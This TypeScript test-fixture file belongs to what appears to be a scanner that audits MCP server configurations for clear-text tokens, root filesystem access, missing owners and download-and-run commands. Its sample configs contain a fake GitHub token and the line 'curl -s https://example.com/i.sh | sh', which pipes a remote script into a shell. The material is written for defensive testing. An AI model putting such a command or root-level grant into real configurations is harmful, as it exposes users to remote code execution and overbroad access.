import type { CredentialClass, Edit, Judged, Label } from '../../src/core/finding.ts';
import { NO_PAINT } from '../../src/report/paint.ts';
import type { Path } from '../../src/core/node.ts';
import type { FileReport, Report, RuleInfo } from '../../src/core/report.ts';
import { Secret } from '../../src/core/secret.ts';
import { Source, type Encoding } from '../../src/core/source.ts';
import type { Page, ReportOptions } from '../../src/report/reporter.ts';

/** Looks like a token, belongs to nobody, and stands nowhere but in a running test. */
export const TOKEN = 'ghp' + '_' + 'aB3dE5fG7h'.repeat(4).slice(0, 36);

export const OPTIONS: ReportOptions = { paint: NO_PAINT, width: 80, pages: new Map(), failOn: 'high', verbose: false, quiet: false };

const RULES: readonly RuleInfo[] = [
  {
    id: 'broad-filesystem-root',
    family: 'scope',
    title: 'A file server is given more than the project',
    severity: 'medium',
    confidence: 'medium',
    mappings: { cwe: ['CWE-732'], 'owasp-mcp': ['MCP02:2025'] },
    messages: {},
  },
  {
    id: 'hardcoded-known-secret',
    family: 'secrets',
    title: 'A credential stands in the file in clear text',
    severity: 'high',
    confidence: 'high',
    mappings: { cwe: ['CWE-798', 'CWE-312'], 'owasp-mcp': ['MCP01:2025'], 'owasp-nhi': ['NHI2:2025'], other: ['X-1'] },
    messages: {},
  },
  {
    id: 'owner-missing',
    family: 'ownership',
    title: 'Nobody answers for a server',
    severity: 'low',
    confidence: 'high',
    mappings: {},
    messages: {},
  },
  {
    id: 'shell-download',
    family: 'execution',
    title: 'A server is downloaded and run in one go',
    severity: 'critical',
    confidence: 'high',
    mappings: { cwe: ['CWE-78', 'CWE-494'] },
    messages: {},
  },
];

export const PAGES: ReadonlyMap<string, Page> = new Map(
  RULES.map(({ id, title }) => [
    id,
    {
      summary: `${title}.`,
      why: `Whoever can read the file can use it. More on this is on the page of the rule.\n\nSecond paragraph.`,
      fix: 'Write a reference in its place, then revoke what was there.',
      markdown: `# ${id}\n\n${title}.\n\n## Fix\n\nWrite a reference in its place.`,
      text: `${id}\n\n${title}.\n\nWrite a reference in its place.`,
    },
  ]),
);

export function source(path: string, lines: readonly string[], encoding?: Encoding, eol = '\n'): Source {
  return new Source(path, lines.join(eol) + eol, encoding);
}

/** The span of the nth occurrence of a text. */
export function spanOf(source: Source, needle: string, nth = 1): { start: number; end: number } {
  let start = -1;
  for (let count = 0; count < nth; count++) {
    start = source.text.indexOf(needle, start + 1);
    if (start < 0) throw new Error('not in the sample: ' + nth);
  }
  return { start, end: start + needle.length };
}

export function label(at: Source, needle: string, text: string, nth = 1): Label {
  return { source: at, span: spanOf(at, needle, nth), text };
}

export function edit(at: Source, needle: string, text: string): Edit {
  return { source: at, span: spanOf(at, needle), text };
}

let serial = 0;
export type Draft = Partial<Judged> & { readonly source: Source; readonly at: string | { start: number; end: number } };

/** A finding with everything filled in that the test does not care for. */
export function finding({ at, ...draft }: Draft): Judged {
  return {
    rule: 'hardcoded-known-secret',
    family: 'secrets',
    severity: 'high',
    confidence: 'high',
    message: '`github` in Claude Code carries a GitHub token in clear text. Write ${GITHUB_TOKEN} and revoke it.',
    span: typeof at === 'string' ? spanOf(draft.source, at) : at,
    path: ['mcpServers', 'github', 'env', 'GITHUB_TOKEN'] as Path,
    format: 'claude-code',
    server: 'github',
    credential: null,
    related: [],
    fix: null,
    identity: (++serial).toString(16).padStart(16, '0'),
    suppressed: null,
    ...draft,
  };
}

export function credential(value: string, prefix = 'ghp_', kind = 'github-pat-classic', cls: CredentialClass = 'secret') {
  return { kind, class: cls, secret: new Secret(value, prefix) };
}

export function file(path: string, state: FileReport['state'] = 'parsed', reason: string | null = null, servers = 1): FileReport {
  return { path, format: state === 'parsed' ? 'claude-code' : null, state, servers, reason, personal: path.startsWith('~/') };
}

export function report(findings: readonly Judged[], over: Partial<Report> = {}): Report {
  const sources = new Map<string, Source>();
  for (const { source, related } of findings) {
    sources.set(source.path, source);
    for (const item of related) sources.set(item.source.path, item.source);
  }
  return {
    version: '1.2.3',
    files: [...sources.keys()].map(path => file(path)),
    // Reporters only count them.
    servers: { length: sources.size } as Report['servers'],
    findings,
    notices: [],
    rules: RULES,
    sources,
    ...over,
  };
}

/** A report with one of everything: two files, all severities, a fix, shared places, a suppression, files not read. */
export function sample(): Report {
  serial = 0;
  const claude = source('.mcp.json', [
    '{',
    '  "mcpServers": {',
    '    "github": {',
    '      "command": "npx",',
    '      "args": ["-y", "@modelcontextprotocol/server-github"],',
    '      "env": {',
    `        "GITHUB_TOKEN": "${TOKEN}"`,
    '      }',
    '    }',
    '  }',
    '}',
  ]);
  const cursor = source('tools dir/größe #1/mcp.json', [
    `{ "mcpServers": { "github": { "command": "npx", "env": { "GITHUB_TOKEN": "${TOKEN}" } },`,
    '  "files": { "command": "mcp-files", "args": ["/"] },',
    '  "fetch": { "command": "sh", "args": ["-c", "curl -s https://example.com/i.sh | sh"] } } }',
  ]);
  const findings = [
    finding({
      source: claude,
      at: TOKEN,
      credential: credential(TOKEN),
      related: [label(cursor, TOKEN, 'the same token'), label(claude, 'github', 'the server [github]')],
      fix: { title: 'Replace the token by ${GITHUB_TOKEN}', safe: true, edits: [edit(claude, TOKEN, '${GITHUB_TOKEN}')] },
    }),
    finding({
      source: claude,
      at: 'github',
      rule: 'owner-missing',
      family: 'ownership',
      severity: 'low',
      message: 'Nobody answers for `github`. Name an owner in the manifest.',
      path: ['mcpServers', 'github'],
    }),
    finding({
      source: cursor,
      at: '"/"',
      rule: 'broad-filesystem-root',
      family: 'scope',
      severity: 'medium',
      confidence: 'medium',
      message: '`files` in Cursor may read and write every file of the machine. Give it the project folder alone.',
      path: ['mcpServers', 'files', 'args', 0],
      server: 'files',
      format: 'cursor',
    }),
    finding({
      source: cursor,
      at: 'files',
      rule: 'owner-missing',
      family: 'ownership',
      severity: 'low',
      message: 'Nobody answers for `files`. Name an owner in the manifest.',
      path: ['mcpServers', 'files'],
      server: 'files',
      format: 'cursor',
    }),
    finding({
      source: cursor,
      at: 'curl -s https://example.com/i.sh | sh',
      rule: 'shell-download',
      family: 'execution',
      severity: 'critical',
      message: '`fetch` in Cursor runs whatever example.com sends. Install a fixed version and start that.',
      path: ['mcpServers', 'fetch', 'args', 1],
      server: 'fetch',
      format: 'cursor',
    }),
    finding({
      source: cursor,
      at: TOKEN,
      credential: credential(TOKEN),
      path: ['mcpServers', 'github', 'env', 'GITHUB_TOKEN'],
      format: 'cursor',
      suppressed: { by: 'config', reason: 'revoked, kept as a sample', expires: '2027-01-31' },
    }),
  ];
  return report(findings, {
    files: [
      file('.mcp.json'),
      file('broken.json', 'partial', 'a comma is missing in line 3', 0),
      file('huge.json', 'unreadable', 'larger than 5 MB', 0),
      file('tools dir/größe #1/mcp.json', 'parsed', null, 3),
    ],
    servers: { length: 4 } as Report['servers'],
    notices: [
      { level: 'warning', message: 'The configuration switches 1 rule off.', file: 'postern.yaml' },
      { level: 'info', message: 'Nothing else.' },
    ],
  });
}
